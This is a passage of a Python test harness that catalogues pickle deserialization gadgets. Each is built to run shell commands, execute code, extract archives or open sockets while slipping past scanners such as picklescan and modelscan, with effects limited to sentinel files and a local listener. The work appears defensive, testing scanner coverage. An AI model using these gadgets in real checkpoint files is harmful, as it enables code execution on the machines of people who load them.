               "starts a thread listening on a socket for new logging config", lambda w: pkl(method(call(
                   glob("logging.config", "listen"), number(0)), "start")), shows=("state",)),
        Gadget("logging.basicConfig(filename=...)", "stdlib logging", "adds a root handler writing WORK/sentinel",
               lambda w: pkl(keywords(glob("logging", "basicConfig"), (), {"filename": text(w.sentinel)})),
               shows=("files", "state")),
        Gadget("logging.disable", "stdlib logging", "silences all logging in the process",
               lambda w: pkl(call(glob("logging", "disable"), number(50))), shows=("state",)),
        Gadget("warnings.filterwarnings", "stdlib warnings", "adds a warning filter to the process",
               lambda w: pkl(call(glob("warnings", "filterwarnings"), text("ignore"), text(MARK_TEXT))),
               shows=("state",)),
        Gadget("copyreg.add_extension", "modelscan: copyreg", "registers an extension code for posix.system",
               lambda w: pkl(call(glob("copyreg", "add_extension"), text("posix"), text("system"), number(0x7A11))),
               shows=("state",)),
        Gadget("copyreg.pickle", "modelscan: copyreg dispatch table", "replaces how complex numbers pickle",
               lambda w: pkl(call(glob("copyreg", "pickle"), glob("builtins", "complex"), glob("builtins", "print"))),
               shows=("state",)),
        Gadget("atexit.register(os.system)", "picklescan deny list: atexit", "runs touch when the interpreter exits",
               lambda w: pkl(call(glob("atexit", "register"), glob("os", "system"), text(w.touch())))),
        Gadget("ThreadPoolExecutor(initializer=os.system).submit", "ckpt's own rewrap keeps the initializer",
               "a worker thread runs the initializer: touch", lambda w: pkl(method(keywords(
                   glob("concurrent.futures", "ThreadPoolExecutor"), (number(1),),
                   {"initializer": glob("posix", "system"), "initargs": tup(text(w.touch()))}), "submit",
                   glob("builtins", "int")))),
        Gadget("zipfile.ZipFile.extractall via getattr", "modelscan: zipfile extraction", "unpacks MARK under WORK",
               lambda w: pkl(method(call(glob("zipfile", "ZipFile"), text(shipped_zip(w))), "extractall",
                                    text(str(w.root))))),
        Gadget("tarfile.open(...).extractall", "modelscan: tarfile extraction", "unpacks MARK under WORK",
               lambda w: pkl(method(call(glob("tarfile", "open"), text(shipped_tar(w))), "extractall",
                                    text(str(w.root))))),
        Gadget("shutil.move", "picklescan deny list: shutil", "moves WORK/victim/keep.txt away",
               lambda w: pkl(call(glob("shutil", "move"), text(w.keep), text(w.sentinel)))),
        Gadget("tempfile.mkdtemp", "picklescan deny list: tempfile", "creates a directory under WORK",
               lambda w: pkl(call(glob("tempfile", "mkdtemp"), NONE, NONE, text(str(w.root))))),
        Gadget("socket.create_connection", "picklescan deny list: socket", "connects to the listener",
               lambda w: pkl(call(glob("socket", "create_connection"), tup(text("127.0.0.1"), number(w.port)))),
               shows=("connect",)),
        Gadget("urllib.request.urlopen", "picklescan deny list: urllib", "connects to the listener",
               lambda w: pkl(call(glob("urllib.request", "urlopen"), text(w.url))), shows=("connect",)),
        Gadget("smtplib.SMTP constructed", "a stdlib class that connects in __init__", "connects to the listener",
               lambda w: pkl(call(glob("smtplib", "SMTP"), text("127.0.0.1"), number(w.port))), shows=("connect",)),
        Gadget("imaplib.IMAP4_stream constructed", "a stdlib class that runs a shell command in __init__",
               "runs touch", lambda w: pkl(call(glob("imaplib", "IMAP4_stream"), text(w.touch())))),
        Gadget("uuid._get_command_stdout", "a private helper of an allowed module runs a program", "runs touch",
               lambda w: pkl(call(glob("uuid", "_get_command_stdout"), text("touch"), text(w.sentinel)))),
        Gadget("_osx_support._read_output", "stdlib helper: os.system of its argument", "runs touch",
               lambda w: pkl(call(glob("_osx_support", "_read_output"), text(w.touch())))),
        Gadget("code.InteractiveInterpreter.runsource", "picklescan deny list: code", "execs source",
               lambda w: pkl(call(glob("code", "InteractiveInterpreter.runsource"), call(
                   glob("code", "InteractiveInterpreter")), text(w.python()), text("<x>"), text("exec")))),
        Gadget("runpy._run_code", "picklescan deny list: runpy", "execs source",
               lambda w: pkl(call(glob("runpy", "_run_code"), text(w.python()), EMPTY_DICT))),
        Gadget("importlib.machinery.SourceFileLoader.load_module", "modelscan: importlib",
               "imports (execs) a shipped .py", lambda w: pkl(method(call(
                   glob("importlib.machinery", "SourceFileLoader"), text("ckpt_gadget_mod"),
                   text(shipped(w, "ckpt_gadget_mod.py", w.python().encode()))), "load_module"))),
        Gadget("zipimport.zipimporter.load_module", "picklescan deny list: zipimport", "execs a module from a shipped zip",
               lambda w: pkl(method(call(glob("zipimport", "zipimporter"), text(shipped_pyzip(w))), "load_module",
                                    text("ckpt_gadget_zipped")))),
        Gadget("site.addsitedir running a shipped .pth", "modelscan/fickling: site, sys.path and import hooks",
               "site.addsitedir puts WORK on sys.path and runs its .pth lines", lambda w: pkl(call(
                   glob("site", "addsitedir"), text(_shipped_pth(w)))), shows=("files", "state")),
        Gadget("sys.setrecursionlimit", "process state", "raises the recursion limit (a later overflow crashes)",
               lambda w: pkl(call(glob("sys", "setrecursionlimit"), number(10**6))), shows=("state",)),
    ]


# --- helpers that need the libraries ------------------------------------------------


def _version(module: str) -> str:
    try:
        from importlib.metadata import version

        return version({"sklearn": "scikit-learn"}.get(module, module))
    except Exception:
        return "(not installed)"


def _libc_dir() -> str:
    for candidate in ("/lib/x86_64-linux-gnu", "/usr/lib/x86_64-linux-gnu", "/lib64", "/usr/lib64", "/lib/aarch64-linux-gnu"):
        if (Path(candidate) / "libc.so.6").exists():
            return candidate
    return "/lib"


def _joblib_file(w: Work) -> str:
    import joblib

    joblib.dump(RunsShell(w.touch()), w.file("shipped.joblib"))
    return w.file("shipped.joblib")


def _torch_file_bytes(w: Work) -> bytes:
    import torch

    out = io.BytesIO()
    torch.save(RunsShell(w.touch()), out)
    return out.getvalue()


def _marshalled(w: Work) -> bytes:
    import marshal

    return marshal.dumps(compile(w.python(), "<x>", "exec"))


def _shipped_ini(w: Work) -> str:
    expression = f"(open({w.sentinel!r}, 'w').write({MARK_TEXT!r}) and sys.stderr,)"
    ini = ("[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n"
           "[logger_root]\nlevel=WARNING\nhandlers=h\n"
           f"[handler_h]\nclass=StreamHandler\nargs={expression}\n")
    return shipped(w, "shipped.ini", ini.encode())


def _shipped_pth(w: Work) -> str:
    site_dir = w.root / "site"
    site_dir.mkdir(exist_ok=True)
    (site_dir / "ckpt_gadget.pth").write_text(f"import os; open({w.sentinel!r}, 'w').write({MARK_TEXT!r})\n")
    return str(site_dir)


GADGETS: tuple[Gadget, ...] = (*numpy_gadgets(), *scipy_gadgets(), *sklearn_gadgets(), *pandas_gadgets(),
                               *torch_gadgets(), *_bypass_gadgets())

TRUST_LEVELS: tuple[tuple[str, ...], ...] = ((), ("sklearn",), ("pandas",), ("torch",), ("numpy",), ("scipy",),
                                             ("sklearn", "pandas", "numpy", "scipy", "torch"))
CLI_TRUST_LEVELS = (TRUST_LEVELS[-1],)
"""The command line runs the widest trust (every level runs through the library)."""

CLI_SAMPLE = frozenset({
    "numpy.memmap(mode='w+') by REDUCE on the class",
    "numpy.ndarray.tofile via getattr", "numpy.seterr(all='raise')",
    "scipy.stats norm_gen.__setstate__ execs _parse_arg_template", "scipy.io.FortranFile(mode='w') constructed",
    "sklearn.datasets.clear_data_home", "joblib.load of a shipped file", "pandas.read_pickle",
    "torch _IterDataPipeSerializationWrapper.__setstate__ (pickle)",
    "torch.fx reduce_graph_module", "torch _rebuild_from_type_v2 calling torch.manual_seed",
    "type() with three arguments: a new FileHandler subclass", "logging.FileHandler + MemoryHandler flushed at exit",
    "sys.modules.__setitem__ by dotted name", "ThreadPoolExecutor(initializer=os.system).submit",
    "_posixsubprocess.fork_exec",
})
"""The rows the command line runs by default (every mechanism and library; each
`ckpt` process costs half a second, which all rows times five would not fit in
a minute). CKPT_GADGETS_CLI=all runs every row; the library and real-gadget
tests always run every row."""


def named_modules(data: bytes) -> list[str]:
    """The modules data.pkl names (GLOBAL, and STACK_GLOBAL after two strings), read from its opcodes."""
    found, strings = [], []
    try:
        for op, arg, _ in pickletools.genops(data):
            if op.name in ("GLOBAL", "INST"):
                found.append(str(arg).split(" ")[0])
            elif op.name == "STACK_GLOBAL" and len(strings) >= 2:
                found.append(strings[-2])
            if isinstance(arg, str) and ("STRING" in op.name or "UNICODE" in op.name):
                strings.append(arg)
    except Exception:
        pass
    return sorted({name for name in found if name})


if __name__ == "__main__":  # a listing for the report
    json.dump([{"name": g.name, "source": g.source, "effect": g.effect} for g in GADGETS], sys.stdout, indent=1)
